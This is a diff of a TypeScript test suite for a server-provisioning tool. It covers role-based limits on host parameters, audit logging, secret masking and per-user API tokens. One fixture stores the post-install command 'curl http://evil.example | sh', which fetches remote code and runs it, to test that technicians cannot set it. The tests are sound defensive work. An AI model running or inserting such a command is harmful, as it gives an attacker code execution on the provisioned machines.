@@ -8,8 +8,8 @@ import { createHash } from 'node:crypto';
 import request from 'supertest';
 import type { WebRouter } from '../../src/web/pages/index.ts';
 import { createLogsApi } from '../../src/ops/routes.ts';
-import { type ApiTokenStore, UserStore, hashUserPasswordSync } from '../../src/store/users.ts';
-import { SettingsStore } from '../../src/store/settings.ts';
+import { hashUserPasswordSync } from '../../src/store/users.ts';
+import type { ApiTokenRepo, UserRepo } from '../../src/store/repo/users.ts';
 import { usersCommand } from '../../src/web/users-cli.ts';
 import { makeEnv, SAMPLE_HOST, type TestEnv } from '../support/core.ts';
 import { apiTokenOf, appFor, loginForm, webRouterFor } from '../support/web-env.ts';
@@ -27,41 +27,38 @@ const ACTIVATION = 'ak-secret-7f3a9c';
 let env: TestEnv;
 let web: WebRouter;
 let app: Express;
-let users: UserStore;
-let tokens: ApiTokenStore;
+let users: UserRepo;
+let tokens: ApiTokenRepo;
 let techToken: string;
 
-beforeEach(() => {
-  env = makeEnv();
-  users = new UserStore(env.core.db);
-  users.add('alice', 'admin', HASH);
-  users.add('tom', 'tech', HASH);
-  ({ tokens, token: techToken } = apiTokenOf(env, users, 'tom'));
+beforeEach(async () => {
+  env = await makeEnv();
+  users = env.core.store.users;
+  await users.add('alice', 'admin', HASH);
+  await users.add('tom', 'tech', HASH);
+  ({ tokens, token: techToken } = await apiTokenOf(env, 'tom'));
   web = webRouterFor(env);
   app = appFor(env, ADMIN, {
     routers: [web],
     userToken: (t) => tokens.authenticate(t),
-    settings: new SettingsStore(env.core.db),
+    settings: env.core.store.settings,
     apiRouters: [
       (docs: ApiDocs) =>
         createLogsApi({ hosts: env.core.hosts, builds: env.core.builds, syslog: env.core.syslog, docs }),
     ],
   });
 });
-afterEach(() => {
+afterEach(async () => {
   web.close();
-  env.cleanup();
+  await env.cleanup();
 });
 
 const as = (token: string) => ({ Authorization: `Bearer ${token}` });
 const login = (name: string) => loginForm(app, name, PW);
 const auditRows = () =>
-  env.core.db.prepare('SELECT actor, action, target, diff FROM audit ORDER BY id').all() as {
-    actor: string;
-    action: string;
-    target: string;
-    diff: string | null;
-  }[];
+  env.core.store.sql.all<{ actor: string; action: string; target: string; diff: string | null }>(
+    'SELECT actor, action, target, diff FROM audit ORDER BY id',
+  );
 const hostBody = (params: Record<string, unknown>, mac = SAMPLE_HOST.mac, hostname = SAMPLE_HOST.hostname) => ({
   ...SAMPLE_HOST,
   mac,
@@ -100,8 +97,8 @@ test('a tech token cannot set post, rootPassword, satellite, stig, image or kern
     ).body.error.message,
     /can never set/,
   );
-  assert.equal(env.core.hosts.list().length, 0);
-  assert.equal(auditRows().length, 0);
+  assert.equal((await env.core.hosts.list()).length, 0);
+  assert.equal((await auditRows()).length, 0);
 
   // Without parameters a tech may add a host, build it, cancel it; deleting needs an admin.
   assert.equal((await request(app).post('/api/hosts').set(as(techToken)).send(hostBody({}))).status, 201);
@@ -111,7 +108,7 @@ test('a tech token cannot set post, rootPassword, satellite, stig, image or kern
   assert.equal(del.status, 403);
   assert.match(del.body.error.message, /admin role/);
   assert.deepEqual(
-    auditRows().map((a) => a.actor),
+    (await auditRows()).map((a) => a.actor),
     ['api:tom', 'api:tom', 'api:tom'],
     'the audit names the person, not "api"',
   );
@@ -134,7 +131,7 @@ test('a tech token cannot set post, rootPassword, satellite, stig, image or kern
     .set(as(techToken))
     .send({ params: { 'stig.enabled': 'true', 'boot.kernelArgs': 'x' } });
   assert.equal(ka.status, 403);
-  assert.deepEqual(env.core.hosts.get(SAMPLE_HOST.mac as Mac)!.params, { 'stig.enabled': 'true' });
+  assert.deepEqual((await env.core.hosts.get(SAMPLE_HOST.mac as Mac))!.params, { 'stig.enabled': 'true' });
   assert.equal(
     (await request(app).put(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(techToken)).send({ rack: 'R9' })).status,
     200,
@@ -146,7 +143,7 @@ test('a tech token cannot set post, rootPassword, satellite, stig, image or kern
     .send({ profile: 'rhvh-custom-thin' });
   assert.equal(move.status, 403);
   assert.match(move.body.error.message, /^profile: the tech role may not move rhvh01/);
-  assert.equal(env.core.hosts.get(SAMPLE_HOST.mac as Mac)!.profile, 'rhvh-base');
+  assert.equal((await env.core.hosts.get(SAMPLE_HOST.mac as Mac))!.profile, 'rhvh-base');
 });
 
 test('the admin allow-list opens harmless parameters to techs, never the forbidden ones; only an admin changes it', async () => {
@@ -182,7 +179,7 @@ test('the admin allow-list opens harmless parameters to techs, never the forbidd
     ).body.error.message,
     /can never be opened to techs/,
   );
-  assert.deepEqual(new SettingsStore(env.core.db).techParams(), [], 'nothing changed');
+  assert.deepEqual(await env.core.store.settings.techParams(), [], 'nothing changed');
 
   const ok = await request(app)
     .put('/api/settings/tech-params')
@@ -208,7 +205,7 @@ test('the admin allow-list opens harmless parameters to techs, never the forbidd
     .send(hostBody({ 'timezone.name': 'UTC', post: 'x' }, '52:54:00:aa:bb:02', 'rhvh02'));
   assert.equal(still.status, 403);
   assert.match(still.body.error.message, /params\.post/);
-  const setting = auditRows().find((a) => a.action === 'settings.tech-params')!;
+  const setting = (await auditRows()).find((a) => a.action === 'settings.tech-params')!;
   assert.deepEqual(JSON.parse(setting.diff!), {
     before: { techParams: [] },
     after: { techParams: ['timezone.name', 'ntpServers'] },
@@ -223,25 +220,25 @@ test("rack CSV: a tech's param.post column is refused 403 naming the field and l
     r.body.error.problems.some((p: string) => p.startsWith('line 3: param.post:')),
     JSON.stringify(r.body.error.problems),
   );
-  assert.equal(env.core.hosts.list().length, 0);
+  assert.equal((await env.core.hosts.list()).length, 0);
 
   // The web import of a tech: the same rule, the page names the field.
   const { agent, csrf } = await login('tom');
   const page = await agent.post('/hosts/import').type('form').send({ _csrf: csrf, csv, action: 'import' });
   assert.equal(page.status, 403);
   assert.match(page.text, /param\.post: the tech role can never set this parameter/);
-  assert.equal(env.core.hosts.list().length, 0);
+  assert.equal((await env.core.hosts.list()).length, 0);
 
   // An admin may import it; a row without params imports for a tech.
   assert.equal((await request(app).post('/api/hosts/import').set(as(ADMIN)).type('text/csv').send(csv)).status, 201);
-  assert.equal(env.core.hosts.get('52:54:00:aa:bb:02' as Mac)!.params.post, 'curl http://evil.example | sh');
+  assert.equal((await env.core.hosts.get('52:54:00:aa:bb:02' as Mac))!.params.post, 'curl http://evil.example | sh');
   const plain = await request(app)
     .post('/api/hosts/import')
     .set(as(techToken))
     .type('text/csv')
     .send('mac,hostname,profile\n52:54:00:aa:bb:03,rhvh03,rhvh-base\n');
   assert.equal(plain.status, 201);
-  const imp = auditRows().filter((a) => a.action === 'host.import');
+  const imp = (await auditRows()).filter((a) => a.action === 'host.import');
   assert.deepEqual(
     imp.map((a) => a.actor),
     ['api', 'api:tom'],
@@ -277,7 +274,7 @@ test('parameters are checked against the profile when saved: a misspelt or inval
     );
     assert.match(r.body.error.message, want);
   }
-  assert.equal(env.core.hosts.list().length, 0);
+  assert.equal((await env.core.hosts.list()).length, 0);
   assert.equal(
     (
       await request(app)
@@ -313,9 +310,9 @@ test('parameters are checked against the profile when saved: a misspelt or inval
   });
   assert.equal(form.status, 400);
   assert.match(form.text, /params\.timezon\.name: not a field of the profile/);
-  assert.equal(env.core.hosts.get('52:54:00:aa:bb:08' as Mac), undefined);
+  assert.equal(await env.core.hosts.get('52:54:00:aa:bb:08' as Mac), undefined);
   // The kickstart of the saved host still renders: nothing invalid got in.
-  assert.ok(env.core.provisioner.preview(SAMPLE_HOST.mac as Mac, 'kickstart', { maskSecrets: true }).ok);
+  assert.ok((await env.core.provisioner.preview(SAMPLE_HOST.mac as Mac, 'kickstart', { maskSecrets: true })).ok);
 });
 
 test('audit: whole host records before and after, parameters included, secrets masked; profile edits masked too', async () => {
@@ -334,7 +331,7 @@ test('audit: whole host records before and after, parameters included, secrets m
     .send({ rack: 'R2', params: { 'timezone.name': 'America/Phoenix', rootPassword: ROOT_HASH } });
   assert.equal(put.status, 200, put.text);
   assert.equal((await request(app).delete(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(ADMIN))).status, 204);
-  const rows = auditRows();
+  const rows = await auditRows();
   assert.deepEqual(
     rows.map((r) => r.action),
     ['host.create', 'host.update', 'host.delete'],
@@ -359,7 +356,7 @@ test('audit: whole host records before and after, parameters included, secrets m
     .type('form')
     .send({ _csrf: csrf, text: after, base: before, action: 'save' });
   assert.equal(saved.status, 303, saved.text.slice(0, 500));
-  const edit = auditRows().find((r) => r.action === 'profile.update')!;
+  const edit = (await auditRows()).find((r) => r.action === 'profile.update')!;
   assert.ok(!edit.diff!.includes(ACTIVATION) && !edit.diff!.includes('rhvh-hosts'), edit.diff!);
   const unified = JSON.parse(edit.diff!).unified as string;
   assert.match(unified, /^-\s+activationKey: \*{8}/m);
@@ -370,15 +367,13 @@ test('audit: whole host records before and after, parameters included, secrets m
   );
 
   // The audit page, for a tech: the old-style entry written before masking existed is masked when shown.
-  env.core.db
-    .prepare('INSERT INTO audit (at, actor, action, target, diff) VALUES (?, ?, ?, ?, ?)')
-    .run(
-      Date.now(),
-      'api',
-      'host.update',
-      SAMPLE_HOST.mac,
-      JSON.stringify({ params: { from: {}, to: { rootPassword: ROOT_HASH, 'satellite.activationKey': ACTIVATION } } }),
-    );
+  await env.core.store.sql.run('INSERT INTO audit (at, actor, action, target, diff) VALUES (?, ?, ?, ?, ?)', [
+    Date.now(),
+    'api',
+    'host.update',
+    SAMPLE_HOST.mac,
+    JSON.stringify({ params: { from: {}, to: { rootPassword: ROOT_HASH, 'satellite.activationKey': ACTIVATION } } }),
+  ]);
   const { agent: t } = await login('tom');
   const page = await t.get('/audit');
   assert.equal(page.status, 200);
@@ -388,16 +383,16 @@ test('audit: whole host records before and after, parameters included, secrets m
 });
 
 test('a tech sees secrets masked on the profile page, the parameter table, the failure log, the timeline and the API', async () => {
-  env.core.hosts.insert({
+  await env.core.hosts.insert({
     ...SAMPLE_HOST,
     mac: SAMPLE_HOST.mac as Mac,
     profile: 'rhvh-stig-satellite',
     nameservers: [],
     params: { 'satellite.activationKey': ACTIVATION },
   });
-  const started = env.core.provisioner.startBuild(SAMPLE_HOST.mac as Mac, 'test');
+  const started = await env.core.provisioner.startBuild(SAMPLE_HOST.mac as Mac, 'test');
   assert.ok(started.ok, started.ok ? '' : started.message);
-  env.core.provisioner.callback(
+  await env.core.provisioner.callback(
     started.value.token,
     'failed',
     '10.99.0.11',
@@ -460,18 +455,17 @@ test('per-user API tokens: CLI and account page create (shown once, hashed), the
   assert.equal(await usersCommand(env.config, io, ['token', 'alice'], {}), 0, err.join('\n'));
   const aliceToken = out.pop()!;
   assert.match(aliceToken, /^rbt_[A-Za-z0-9_-]{43}$/);
-  const stored = env.core.db.prepare('SELECT token_hash, prefix FROM api_tokens').all() as {
-    token_hash: string;
-    prefix: string;
-  }[];
+  const stored = await env.core.store.sql.all<{ token_hash: string; prefix: string }>(
+    'SELECT token_hash, prefix FROM api_tokens',
+  );
   assert.ok(!JSON.stringify(stored).includes(aliceToken.slice(12)), 'only a hash and the prefix are stored');
   assert.ok(stored.some((s) => s.token_hash === createHash('sha256').update(aliceToken).digest('hex')));
   assert.equal(await usersCommand(env.config, io, ['token', 'nobody'], {}), 1);
 
   // alice's token is an admin: it deletes; the audit names alice.
-  env.core.hosts.insert({ ...SAMPLE_HOST, mac: SAMPLE_HOST.mac as Mac, nameservers: [], params: {} });
+  await env.core.hosts.insert({ ...SAMPLE_HOST, mac: SAMPLE_HOST.mac as Mac, nameservers: [], params: {} });
   assert.equal((await request(app).delete(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(aliceToken))).status, 204);
-  assert.equal(auditRows().at(-1)!.actor, 'api:alice');
+  assert.equal((await auditRows()).at(-1)!.actor, 'api:alice');
   assert.equal(await usersCommand(env.config, io, ['tokens', 'alice'], {}), 0);
   assert.match(
     out.at(-1)!,
@@ -513,7 +507,7 @@ test('per-user API tokens: CLI and account page create (shown once, hashed), the
   assert.equal((await request(app).get('/api/hosts').set(as(shown!))).status, 401);
 
   // An admin revokes all of a user's tokens on the Users page.
-  const second = tokens.create(users.get('tom')!);
+  const second = await tokens.create((await users.get('tom'))!);
   assert.ok(!('error' in second));
   const { agent: alice, csrf: ac } = await login('alice');
   const usersPage = await alice.get('/users');
@@ -522,11 +516,11 @@ test('per-user API tokens: CLI and account page create (shown once, hashed), the
   assert.equal((await alice.post('/users/tom').type('form').send({ _csrf: ac, action: 'revoke-tokens' })).status, 303);
   assert.equal((await request(app).get('/api/hosts').set(as(second.token))).status, 401);
   assert.equal((await request(app).get('/api/hosts').set(as(techToken))).status, 401);
-  techToken = (tokens.create(users.get('tom')!) as { token: string }).token;
+  techToken = ((await tokens.create((await users.get('tom'))!)) as { token: string }).token;
 
   // A disabled user's tokens stop at once; the shared admin token is unaffected; garbage is 401.
   assert.equal((await request(app).get('/api/hosts').set(as(techToken))).status, 200);
-  users.setDisabled('tom', true);
+  await users.setDisabled('tom', true);
   assert.equal((await request(app).get('/api/hosts').set(as(techToken))).status, 401);
   assert.equal((await request(app).get('/api/hosts').set(as(ADMIN))).status, 200);
   for (const bad of [
@@ -547,9 +541,9 @@ test('per-user API tokens: CLI and account page create (shown once, hashed), the
       bad.slice(0, 20),
     );
   }
-  assert.ok(auditRows().some((a) => a.action === 'user.token.create' && a.actor === 'web:tom'));
-  assert.ok(auditRows().some((a) => a.action === 'user.token.revoke' && a.actor === 'cli'));
-  assert.ok(!JSON.stringify(auditRows()).includes(shown!), 'no token text in the audit log');
+  assert.ok((await auditRows()).some((a) => a.action === 'user.token.create' && a.actor === 'web:tom'));
+  assert.ok((await auditRows()).some((a) => a.action === 'user.token.revoke' && a.actor === 'cli'));
+  assert.ok(!JSON.stringify(await auditRows()).includes(shown!), 'no token text in the audit log');
 });
 
 test('Settings page: an admin edits the tech allow-list (bad entries refused naming them, nothing changed); a tech cannot', async () => {
@@ -573,21 +567,21 @@ test('Settings page: an admin edits the tech allow-list (bad entries refused nam
     assert.match(r.text, /Nothing was changed: techParams\[\d\]/);
   }
   assert.equal((await agent.post('/settings').type('form').send({ techParams: 'lang' })).status, 403, 'CSRF');
-  assert.deepEqual(new SettingsStore(env.core.db).techParams(), []);
+  assert.deepEqual(await env.core.store.settings.techParams(), []);
   const ok = await agent
     .post('/settings')
     .type('form')
     .send({ _csrf: csrf, techParams: 'timezone.name\r\nntpServers\r\n' });
   assert.equal(ok.status, 303);
-  assert.deepEqual(new SettingsStore(env.core.db).techParams(), ['timezone.name', 'ntpServers']);
-  assert.equal(auditRows().at(-1)!.actor, 'web:alice');
+  assert.deepEqual(await env.core.store.settings.techParams(), ['timezone.name', 'ntpServers']);
+  assert.equal((await auditRows()).at(-1)!.actor, 'web:alice');
   const imp = await tom.post('/hosts/import').type('form').send({
     _csrf: tc,
     csv: 'mac,hostname,profile,param.timezone.name\n52:54:00:aa:bb:0a,new2,rhvh-base,America/Phoenix\n',
     action: 'import',
   });
   assert.equal(imp.status, 303, 'an allowed parameter imports for a tech');
-  assert.equal(env.core.hosts.get('52:54:00:aa:bb:0a' as Mac)!.params['timezone.name'], 'America/Phoenix');
+  assert.equal((await env.core.hosts.get('52:54:00:aa:bb:0a' as Mac))!.params['timezone.name'], 'America/Phoenix');
 });
 
 test('rackboot hosts import (CLI) checks parameters against the profile too', async () => {
@@ -609,5 +603,5 @@ test('rackboot hosts import (CLI) checks parameters against the profile too', as
   ];
   assert.equal(await runCli(['hosts', 'import', file, ...flags], io), 1);
   assert.match(err.join('\n'), /line 2: param\.timezon\.name: not a field of the profile/);
-  assert.equal(env.core.hosts.list().length, 0);
+  assert.equal((await env.core.hosts.list()).length, 0);
 });
